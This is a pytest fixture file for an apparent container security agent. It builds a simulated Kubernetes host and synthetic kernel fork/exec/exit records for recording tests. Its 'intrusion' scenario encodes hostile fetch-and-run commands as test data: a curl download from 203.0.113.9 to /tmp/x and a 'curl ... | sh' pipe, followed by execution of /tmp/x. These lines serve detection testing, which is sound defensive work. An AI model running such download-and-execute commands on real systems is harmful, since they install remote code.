"""A host of facts with one container, records of what happens on it, and a recording of both."""

import io
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from struct import Struct

import pytest

from agent.decode import layout
from agent.events import EventType, FileId, RawBatch
from agent.facts import RecordedFiles
from agent.record import Bounds, Recorder
from agent.recording import Fact, State, Verb
from agent.source.fake import FakeSource
from agent.source.port import BehaviourKey

CONTAINER = "c" * 64
BOOT_TO_UNIX = 1_700_000_000_000_000_000
HOST_NS, OWN_NS = 4026531840, 4026532999
_TICK = 10_000_000


def said(verb: Verb, path: str, value: bytes | str | int | list[object]) -> Fact:
    """A fact in the form the tap gives it."""
    if isinstance(value, int):
        value = value.to_bytes(8, "little")
    elif isinstance(value, list):
        value = json.dumps(value).encode()
    return Fact(verb, path, State.SAID, value if isinstance(value, bytes) else value.encode())


def process(pid: int, ppid: int, start_ns: int, path: str, cgroup: str, mnt_ns: int) -> list[Fact]:
    """What /proc says of a process."""
    fields = ["S", ppid, 1, 1, 0, -1, 0] + [0] * 12 + [start_ns // _TICK] + [0] * 20
    below = f"/proc/{pid}"
    return [
        said(Verb.READ, f"{below}/stat", f"{pid} (x) {' '.join(map(str, fields))}\n"),
        said(Verb.READ, f"{below}/status", f"Uid:\t0\t0\t0\t0\nNSpid:\t{pid}\n"),
        said(Verb.READ, f"{below}/cmdline", f"{path}\0"),
        said(Verb.LINK, f"{below}/exe", path),
        said(Verb.LINK, f"{below}/cwd", "/"),
        said(Verb.READ, f"{below}/cgroup", f"0::{cgroup}\n"),
        *(said(Verb.INODE, f"{below}/ns/{kind}", mnt_ns) for kind in ("mnt", "pid", "net")),
    ]


def make_host() -> RecordedFiles:
    """A cgroup v2 host: init, and a container's first process."""
    cgroup = f"/kubepods/{CONTAINER}"
    state = {
        "id": CONTAINER,
        "init_process_pid": 50,
        "init_process_start": 500,
        "cgroup_paths": {"": f"/sys/fs/cgroup{cgroup}"},
        "config": {
            "labels": [
                "io.kubernetes.cri.sandbox-name=web-7",
                "io.kubernetes.cri.sandbox-namespace=shop",
                "io.kubernetes.cri.container-name=web",
            ]
        },
    }
    host = RecordedFiles()
    host.apply(
        [
            said(Verb.INODE, "/sys/fs/cgroup/cgroup.controllers", 2),
            said(Verb.INODE, "/sys/fs/cgroup", 1),
            said(Verb.ENTRIES, "/sys/fs/cgroup/", [["kubepods", True, 10]]),
            said(Verb.ENTRIES, "/sys/fs/cgroup/kubepods", [[CONTAINER, True, 11]]),
            said(Verb.INODE, f"/sys/fs/cgroup{cgroup}", 11),
            said(Verb.ENTRIES, "/run/runc", [[CONTAINER, True, 99]]),
            said(Verb.INODE, f"/run/runc/{CONTAINER}", 99),
            said(Verb.READ, f"/run/runc/{CONTAINER}/state.json", json.dumps(state)),
            said(Verb.ENTRIES, "/proc", [["1", True, 3], ["50", True, 4], ["self", False, 5]]),
            *process(1, 0, 0, "/sbin/init", "/", HOST_NS),
            *process(50, 1, 500 * _TICK, "/usr/sbin/nginx", cgroup, OWN_NS),
        ]
    )
    return host


class Kernel:
    """Makes records, a millisecond apart."""

    def __init__(self) -> None:
        self.now_ns = 600 * _TICK

    def _record(
        self, kind: int, form: str, who: tuple[int, int, int, int], body: tuple[object, ...], tail: bytes
    ) -> bytes:
        pid, start_ns, ppid, parent_ns = who
        self.now_ns += 1_000_000
        task = (start_ns, parent_ns, 11, pid, pid, ppid, pid, 0, 0, 0, 0, OWN_NS, OWN_NS, OWN_NS, 0, b"x")
        packer = Struct(form)
        return packer.pack(kind, 0, packer.size + len(tail), self.now_ns, *task, *body) + tail

    def fork(self, pid: int, ppid: int = 50, parent_ns: int = 500 * _TICK) -> bytes:
        who = (pid, pid * _TICK, ppid, parent_ns)
        return self._record(layout.EV_FORK, layout.EV_FORK_FORMAT, who, (), b"")

    def exec(self, pid: int, path: str, *argv: str) -> bytes:
        parts = "".join(f"{p}\0" for p in reversed(path.split("/")[1:])).encode()
        arguments = "".join(f"{a}\0" for a in argv).encode()
        body = (7, 1, 0, 0, 0, 0, len(arguments), len(parts), len(arguments), 0, len(path))
        who = (pid, pid * _TICK, 50, 500 * _TICK)
        return self._record(layout.EV_EXEC, layout.EV_EXEC_FORMAT, who, body, parts + arguments + path.encode())

    def exit(self, pid: int) -> bytes:
        who = (pid, pid * _TICK, 50, 500 * _TICK)
        return self._record(layout.EV_EXIT, layout.EV_EXIT_FORMAT, who, (0, 0), b"")


def batch_of_records(*records: bytes) -> RawBatch:
    """As the ring gives them."""
    return RawBatch(b"".join(records), len(records), BOOT_TO_UNIX)


def intrusion() -> list[RawBatch]:
    """A web server starts a shell, which fetches and runs something."""
    kernel = Kernel()
    return [
        batch_of_records(kernel.fork(700), kernel.exec(700, "/bin/sh", "sh", "-c", "id")),
        batch_of_records(
            kernel.fork(701, 700, 700 * _TICK),
            kernel.exec(701, "/usr/bin/curl", "curl", "-s", "http://203.0.113.9/x.sh", "-o", "/tmp/x"),
            kernel.exec(701, "/bin/sh", "sh", "-c", "curl http://203.0.113.9/x | sh"),
            kernel.exit(701),
        ),
        batch_of_records(kernel.exec(700, "/tmp/x", "/tmp/x"), kernel.exit(700)),
    ]


BEHAVIOUR = BehaviourKey(11, EventType.OPEN, FileId(1, 2, 3), bytes(24))


def record_to(path: Path, bounds: Bounds = Bounds()) -> None:  # noqa: B008 - frozen
    """Record the intrusion on the host above."""
    stop = threading.Event()

    def batches() -> Iterator[RawBatch]:
        yield from intrusion()
        stop.set()

    counters = {"exec": {"emitted": 4, "lost_ring": 2}}
    source = FakeSource(batches(), known={BEHAVIOUR: 7}, counters=counters)
    out = io.BytesIO()
    recorder = Recorder(source, out, node="node-1", boot_id="boot", files=make_host())
    recorder.run(stop, bounds)
    path.write_bytes(out.getvalue())


@pytest.fixture
def recording(tmp_path: Path) -> Path:
    """A whole recording."""
    path = tmp_path / "a.rec"
    record_to(path)
    return path


class Scene:
    """The makers above, for tests."""

    host = staticmethod(make_host)
    intrusion = staticmethod(intrusion)
    record_to = staticmethod(record_to)
    behaviour = BEHAVIOUR


@pytest.fixture
def scene() -> Scene:
    """The host, what happens on it, and how to record it."""
    return Scene()
